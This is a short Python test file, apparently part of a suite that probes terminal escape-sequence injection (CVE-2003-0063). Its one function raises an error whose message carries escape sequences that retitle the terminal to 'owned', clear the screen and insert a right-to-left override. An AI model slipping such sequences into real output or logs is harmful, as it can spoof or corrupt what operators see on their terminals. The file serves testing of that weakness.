"""Write escape sequences into the host's terminal by the text of an error (CVE-2003-0063).

See: https://nvd.nist.gov/vuln/detail/CVE-2003-0063
Layers: main bare
"""


def attempt():
    raise RuntimeError("\x1b]0;owned\x07\x1b[2J\r\x9b1m\u202e" * 40)
